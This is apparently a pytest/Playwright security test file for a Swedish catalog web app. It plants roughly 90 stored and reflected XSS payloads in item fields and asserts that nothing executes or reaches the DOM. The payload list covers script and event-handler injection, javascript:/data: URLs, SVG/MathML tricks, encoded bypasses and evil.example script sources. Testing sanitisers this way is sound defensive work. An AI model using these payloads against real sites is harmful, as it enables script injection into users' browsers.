"""Stored and reflected XSS in the catalog (issue 3, acceptance 3).

Every payload below is saved as the title, summary and body (and a few other
text fields) of an approved item. Each item page, the search result pages and
HR's list and editor are then opened in Chromium, which listens for dialogs,
page errors and console errors: nothing may run. More than that, nothing
dangerous may reach the DOM at all – no script, no on* attribute, no
javascript:/data:/vbscript: address, only the sanitiser's allow-list inside
the item's body – while the ordinary Markdown before each payload still
renders and the title and summary are shown literally."""

from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import timedelta
from urllib.parse import quote, urlsplit

import pytest
from playwright.sync_api import BrowserContext, Page, expect
from sqlalchemy import select, text

from tests.browser.conftest import DEMO_ACCOUNTS
from toolbox import clock
from toolbox.catalog import search
from toolbox.catalog.models import CatalogItem
from toolbox.catalog.service import set_tags
from toolbox.clock import utcnow
from toolbox.extensions import db
from toolbox.web.markup import ALLOWED_ATTRIBUTES, ALLOWED_TAGS

pytestmark = pytest.mark.browser

# Written for this test. Each one that could run calls alert/confirm/prompt
# with its own number, so a dialog names the payload that got through.
PAYLOADS = [
    # Script elements, plain, mixed case, nested and broken.
    "<script>alert(1)</script>",
    "<ScRiPt>alert(2)</sCrIpT>",
    "<SCRIPT SRC=//evil.example/3.js></SCRIPT>",
    "<scr<script>ipt>alert(4)</scr</script>ipt>",
    "<<script>alert(5);//<</script>",
    '<script type="module">alert(6)</script>',
    "<script>/*</script><script>*/alert(7)</script>",
    # Breaking out of the places the text is written into.
    '"><script>alert(8)</script>',
    "'><img src=x onerror=alert(9)>",
    "</textarea><script>alert(10)</script>",
    "</title><script>alert(11)</script>",
    '" autofocus onfocus="alert(12)" x="',
    # Event handlers on many elements.
    "<img src=x onerror=alert(13)>",
    "<img/src=x/onerror=alert(14)>",
    "<svg/onload=alert(15)>",
    "<body onload=alert(16)>",
    "<input autofocus onfocus=alert(17)>",
    "<details open ontoggle=alert(18)><summary>x</summary></details>",
    "<marquee onstart=alert(19)>rullar</marquee>",
    "<video><source onerror=alert(20)></video>",
    "<audio src=x onerror=alert(21)></audio>",
    '<a href="https://example.se" onmouseover=alert(22)>hovra</a>',
    '<p onclick="alert(23)" style="position:fixed;inset:0">klicka</p>',
    "<select autofocus onfocus=alert(24)><option>x</option></select>",
    "<textarea autofocus onfocus=alert(25)>x</textarea>",
    "<div onmouseover\x0c=alert(26)>formfeed</div>",
    "<img src=x:alert(27) onerror=eval(src)>",
    "<iframe onload=alert(28)></iframe>",
    # javascript:, data: and vbscript: in Markdown and in HTML.
    "[klicka](javascript:alert(29))",
    "[klicka](JaVaScRiPt:alert(30))",
    "![bild](javascript:alert(31))",
    "![bild](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMzIpPjwvc3ZnPg==)",
    "[klicka](data:text/html;base64,PHNjcmlwdD5hbGVydCgzMyk8L3NjcmlwdD4=)",
    "<javascript:alert(34)>",
    "[klicka](vbscript:msgbox(35))",
    "[klicka][ref]\n\n[ref]: javascript:alert(36)",
    "[klicka](javascript&#58;alert(37))",
    "[klicka](&#x6A;avascript:alert(38))",
    "[klicka](java%0ascript:alert(39))",
    '<a href="javascript:alert(40)">klicka</a>',
    '<a href="jav&#x09;ascript:alert(41)">klicka</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(42)">klicka</a>',
    '<a href="\x00javascript:alert(43)">klicka</a>',
    '<a href=" javascript:alert(44)">klicka</a>',
    '<a href="data:text/html,<script>alert(45)</script>">klicka</a>',
    '<a href="vbscript:msgbox(46)">klicka</a>',
    "javascript:alert(47)",
    # SVG and MathML.
    "<svg><animate onbegin=alert(48) attributeName=x dur=1s></svg>",
    '<svg><set attributeName="onload" to="alert(49)"/></svg>',
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
    "<image href='1' onerror='alert(50)'/></svg>#x\"/></svg>",
    '<svg><a xlink:href="javascript:alert(51)"><text x="20" y="20">klicka</text></a></svg>',
    "<svg><script>alert(52)</script></svg>",
    "<svg><style><img src=x onerror=alert(53)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(54)>",
    '<math href="javascript:alert(55)">klicka</math>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(56)">x</maction></math>',
    # Frames, objects and other ways in.
    '<iframe srcdoc="<script>alert(57)</script>"></iframe>',
    '<iframe src="javascript:alert(58)"></iframe>',
    '<iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCg1OSk8L3NjcmlwdD4="></iframe>',
    "<object data=javascript:alert(60)></object>",
    '<embed src="data:text/html,<script>alert(61)</script>">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(62)">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<form action="javascript:alert(64)"><button>skicka</button></form>',
    '<button formaction="javascript:confirm(65)">skicka</button>',
    '<base href="javascript:alert(66)//">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/68.css">',
    '<div style="background:url(javascript:alert(69))">bakgrund</div>',
    '<div style="width: expression(alert(70))">ie</div>',
    "<style>@import 'javascript:alert(71)'; body { display: none }</style>",
    '<table background="javascript:alert(72)"><tr><td>x</td></tr></table>',
    '<isindex action="javascript:alert(73)" type="image">',
    "<template><script>alert(74)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(75)>"></noscript>',
    "<xmp><script>alert(76)</script></xmp>",
    '<!--<img src="--><img src=x onerror=alert(77)//">',
    # Encoded variants.
    "&lt;script&gt;alert(78)&lt;/script&gt;",
    "&#60;script&#62;alert(79)&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(80)&#x3E;",
    "%3Cscript%3Ealert(81)%3C%2Fscript%3E",
    "\\u003cscript\\u003ealert(82)\\u003c/script\\u003e",
    "<scri\x00pt>alert(83)</scri\x00pt>",
    "<img src=x o\x00nerror=alert(84)>",
    "<IMG SRC=x OnErRoR=prompt(85)>",
    # Looks like template injection: must be shown as written.
    "{{7*7}}",
    "{{ config.SECRET_KEY }}",
    "{% print(7*7) %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
]

ORDINARY = """## Rubrik före {n}

Text med *betoning* och **fetstil**.

- första punkten
- andra punkten

Se [regionens sida](https://example.se/xss-{n}).

"""
SECRET = "browser-test-secret-key"  # tests/browser/conftest.py
URL_ATTRIBUTES = ("href", "src", "action", "formaction", "data", "xlink:href", "background")
DANGEROUS_SCHEMES = ("javascript:", "data:", "vbscript:")
# After load, the time given to anything delayed (animations, meta refresh).
SETTLE_MS = 100


@dataclass(frozen=True)
class Planted:
    slug: str
    title: str
    summary: str
    body: str
    number: int
    id: int


def title_for(number: int, payload: str) -> str:
    # A title is one line: its input field would drop the newlines.
    return f"XSS-prov {number:02d} {payload}".replace("\n", " ")


@pytest.fixture(scope="module")
def planted(browser_app) -> Iterator[list[Planted]]:
    """One approved item per payload, removed again after the module."""
    found = []
    with browser_app.app_context():
        for number, payload in enumerate(PAYLOADS, start=1):
            item = CatalogItem(
                slug=f"xss-prov-{number:02d}",
                title=title_for(number, payload),
                summary=payload,
                body=ORDINARY.format(n=number) + payload,
                kind="verktyg",
                format="metodkort",
                provider="forvaltningen",
                duration=payload,
                location=payload,
                contact=payload,
                next_dates=payload,
                link=["javascript:alert(1)", "data:text/html,x", "vbscript:x", ""][number % 4],
                state="godkand",
                priority="lag",
                priority_rank=3,
                rationale=payload,
                reviewer_name=payload,
                reviewed_on=clock.today(),
                next_review_on=clock.today() + timedelta(days=365),
                approved_at=utcnow(),
            )
            set_tags(
                item,
                {"areas": ["kultur"], "principles": ["tillit"], "target_groups": ["chefsstod"]},
            )
            db.session.add(item)
            db.session.flush()
            search.reindex(db.session, item)
            found.append(Planted(item.slug, item.title, item.summary, item.body, number, item.id))
        db.session.commit()
    yield found
    with browser_app.app_context():
        for item in db.session.scalars(
            select(CatalogItem).where(CatalogItem.slug.like("xss-prov-%"))
        ).all():
            db.session.execute(
                text("DELETE FROM catalog_search WHERE rowid = :id"), {"id": item.id}
            )
            db.session.delete(item)
        db.session.commit()


@dataclass
class Watch:
    """What a page did that it must not: dialogs and errors."""

    dialogs: list[str]
    errors: list[str]

    def clear(self) -> None:
        self.dialogs.clear()
        self.errors.clear()


def watched(context: BrowserContext) -> tuple[Page, Watch]:
    page = context.new_page()
    watch = Watch([], [])

    def on_dialog(dialog) -> None:
        watch.dialogs.append(f"{dialog.type}: {dialog.message}")
        dialog.dismiss()

    page.on("dialog", on_dialog)
    page.on("pageerror", lambda error: watch.errors.append(f"pageerror: {error}"))
    page.on(
        "console",
        lambda message: message.type == "error" and watch.errors.append(f"console: {message.text}"),
    )
    # Content Security Policy violations are counted too: the sanitiser, not
    # the CSP, is what must keep payloads out.
    page.add_init_script(
        "window.__violations = [];"
        "document.addEventListener('securitypolicyviolation',"
        " e => window.__violations.push(e.violatedDirective + ' ' + e.blockedURI));"
    )
    return page, watch


@pytest.fixture(scope="module")
def browser_for(chromium, server_url, log_in) -> Iterator[Callable[[str], tuple[Page, Watch]]]:
    """A watched page per role, logged in once per module."""
    contexts: list[BrowserContext] = []
    pages: dict[str, tuple[Page, Watch]] = {}

    def get(role: str) -> tuple[Page, Watch]:
        if role not in pages:
            context = chromium.new_context(base_url=server_url, locale="sv-SE")
            contexts.append(context)
            page, watch = watched(context)
            log_in(page, DEMO_ACCOUNTS[role])
            assert urlsplit(page.url).path == "/", f"{role} could not log in"
            pages[role] = (page, watch)
        return pages[role]

    yield get
    for context in contexts:
        context.close()


DOM_PROBLEMS = """([urlAttributes, schemes]) => {
  const problems = [];
  const all = document.querySelectorAll('*');
  for (const el of all) {
    for (const attr of el.attributes) {
      const name = attr.name.toLowerCase();
      if (name.startsWith('on')) problems.push(`${el.tagName} has ${name}`);
      if (name === 'style' || name === 'srcdoc') problems.push(`${el.tagName} has ${name}`);
      if (urlAttributes.includes(name)) {
        // How the browser reads the address: tabs, newlines and leading
        // control characters are dropped, entities were decoded by the parser.
        const value = attr.value.replace(/[\\t\\n\\r]/g, '').replace(/^[\\x00-\\x20]+/, '');
        let scheme = '';
        try { scheme = new URL(value, document.baseURI).protocol; } catch (e) {}
        const raw = value.toLowerCase();
        if (schemes.some(s => raw.startsWith(s) || scheme === s))
          problems.push(`${el.tagName} ${name}=${attr.value}`);
      }
    }
  }
  const unwanted = ['script', 'iframe', 'frame', 'object', 'embed', 'applet', 'base',
    'meta[http-equiv]', 'style', 'link[href^="http"]', 'svg', 'math', 'template',
    'noscript', 'xmp'];
  for (const el of document.querySelectorAll(unwanted.join(', ')))
    problems.push(`<${el.tagName.toLowerCase()}> element`);
  if (document.baseURI !== location.href.split('#')[0]) problems.push(`base ${document.baseURI}`);
  return problems.concat(window.__violations.map(v => `CSP ${v}`));
}"""

BODY_ELEMENTS = """(body) => Array.from(body.querySelectorAll('*')).map(el => [
  el.tagName.toLowerCase(), Array.from(el.attributes).map(a => a.name)])"""


def assert_nothing_ran(page: Page, watch: Watch, where: str) -> None:
    url = page.url
    page.wait_for_timeout(SETTLE_MS)
    assert page.url == url, f"{where}: went on to {page.url}"
    assert watch.dialogs == [], f"{where}: dialogs {watch.dialogs}"
    assert watch.errors == [], f"{where}: errors {watch.errors}"
    assert page.frames == [page.main_frame], f"{where}: frames {page.frames}"
    problems = page.evaluate(DOM_PROBLEMS, [list(URL_ATTRIBUTES), list(DANGEROUS_SCHEMES)])
    assert problems == [], f"{where}: {problems}"
    assert SECRET not in page.content(), f"{where}: the secret key is on the page"


def shown(text_: str) -> str:
    """Text as the browser shows it: NUL dropped, whitespace collapsed."""
    return " ".join(text_.replace("\x00", "").split())


def open_page(page: Page, watch: Watch, path: str) -> None:
    watch.clear()
    response = page.goto(path)
    assert response.status == 200, f"{path}: {response.status}"
    assert urlsplit(page.url).path == urlsplit(path).path, f"{path} went to {page.url}"


def test_enough_payloads_of_every_kind():
    assert len(PAYLOADS) >= 40
    assert len(set(PAYLOADS)) == len(PAYLOADS)
    joined = "\n".join(PAYLOADS).lower()
    for needle in (
        "<script",
        "onerror",
        "onload",
        "javascript:",
        "data:",
        "vbscript:",
        "<svg",
        "<math",
        "srcdoc",
        "<object",
        "<embed",
        "http-equiv",
        "<form",
        "<base",
        "expression(",
        "&#x",
        "%3c",
        "\x00",
        "{{7*7}}",
        "](javascript:",
        "![",
        "<javascript:",
    ):
        assert needle in joined, needle


def test_the_watch_sees_what_it_looks_for(chromium):
    """The listeners and the DOM probe do catch a payload that gets through."""
    context = chromium.new_context()
    try:
        page, watch = watched(context)
        page.set_content(
            '<img src="x:" onerror="alert(1)"><a href=" jav&#x09;ascript:void(0)">a</a>'
            '<a href="DATA:text/html,x">b</a><iframe></iframe><script>undefinedName()</script>'
        )
        page.evaluate("window.__violations = window.__violations || []")
        page.wait_for_function("document.querySelector('img').complete")
        page.wait_for_timeout(SETTLE_MS)
        assert watch.dialogs == ["alert: 1"]
        assert any("undefinedName" in error for error in watch.errors)
        problems = page.evaluate(DOM_PROBLEMS, [list(URL_ATTRIBUTES), list(DANGEROUS_SCHEMES)])
        assert "IMG has onerror" in problems
        assert sum(problem.startswith("A href=") for problem in problems) == 2
        assert {"<iframe> element", "<script> element"} <= set(problems)
        assert len(page.frames) == 2
    finally:
        context.close()


def test_item_pages_run_nothing_and_render_markdown(planted, browser_for):
    page, watch = browser_for("chef")
    for item in planted:
        where = f"payload {item.number} ({item.slug})"
        open_page(page, watch, f"/katalog/{item.slug}")
        assert_nothing_ran(page, watch, where)

        # Title and summary are shown literally, as text.
        assert shown(page.locator("h1").inner_text()) == shown(item.title), where
        assert shown(page.locator(".lead").inner_text()) == shown(item.summary), where

        # The body holds only what the sanitiser allows ...
        body = page.locator(".item-body")
        for tag, attributes in body.evaluate(BODY_ELEMENTS):
            assert tag in ALLOWED_TAGS, f"{where}: <{tag}> in the body"
            assert set(attributes) <= set(ALLOWED_ATTRIBUTES.get(tag, ())), (
                f"{where}: <{tag}> with {attributes}"
            )
        # ... and the ordinary Markdown before the payload still renders.
        expect(body.locator("h2").first).to_have_text(f"Rubrik före {item.number}")
        expect(body.locator("em").first).to_have_text("betoning")
        expect(body.locator("strong").first).to_have_text("fetstil")
        expect(body.locator("ul").first.locator("li")).to_have_count(2)
        link = body.get_by_role("link", name="regionens sida")
        expect(link).to_have_attribute("href", f"https://example.se/xss-{item.number}")
        expect(link).to_have_attribute("rel", "noopener noreferrer")


def test_template_syntax_is_shown_as_written(planted, browser_for):
    page, watch = browser_for("chef")
    for item in planted:
        if "7*7" not in item.summary:
            continue
        open_page(page, watch, f"/katalog/{item.slug}")
        expect(page.locator("h1")).to_have_text(item.title)
        expect(page.locator(".lead")).to_have_text(item.summary)
        # A "#" starting a line of Markdown is a heading (shown as plain text).
        expect(page.locator(".item-body")).to_contain_text(item.summary.removeprefix("#"))
        expect(page.locator(".item-body")).not_to_contain_text("49")


def test_search_and_list_pages_run_nothing(planted, browser_for):
    page, watch = browser_for("chef")
    titles: set[str] = set()
    for query in ("q=XSS-prov&sort=titel", "sort=nyast", "area=kultur&principle=tillit"):
        path = f"/katalog/?{query}"
        while path:
            open_page(page, watch, path)
            assert_nothing_ran(page, watch, path)
            titles |= {shown(t) for t in page.locator(".item-card h3").all_inner_texts()}
            following = page.get_by_role("link", name="Nästa", exact=True)
            path = following.get_attribute("href") if following.count() else None
    assert {shown(item.title) for item in planted} <= titles


@pytest.mark.parametrize(
    "query",
    [
        '"><script>alert(101)</script>',
        "</title><svg onload=alert(102)>",
        "' autofocus onfocus='alert(103)",
        "{{7*7}}",
        "javascript:alert(104)",
    ],
)
def test_search_words_are_not_reflected_as_markup(query, planted, browser_for):
    page, watch = browser_for("chef")
    open_page(page, watch, f"/katalog/?q={quote(query)}&sort={quote(query)}")
    assert_nothing_ran(page, watch, query)
    expect(page.get_by_role("search").get_by_label("Sök", exact=True)).to_have_value(query)
    assert page.title() == f"Katalog: {query} – Verktygslådan"


def test_hr_list_and_editor_run_nothing_and_keep_the_text(planted, browser_for):
    page, watch = browser_for("hr")
    open_page(page, watch, "/katalog/hantera?q=XSS-prov")
    assert_nothing_ran(page, watch, "HR list")
    expect(page.locator("table caption")).to_have_text(f"{len(planted)} objekt")
    for item in planted:
        where = f"HR editor, payload {item.number}"
        open_page(page, watch, f"/katalog/hantera/{item.id}")
        assert_nothing_ran(page, watch, where)
        # The editor gives back exactly what was saved (NUL becomes U+FFFD).
        kept = {
            "#title": item.title,
            "#summary": item.summary,
            "#body": item.body,
        }
        for selector, value in kept.items():
            assert page.locator(selector).input_value() == value.replace("\x00", "\ufffd"), (
                f"{where}: {selector}"
            )
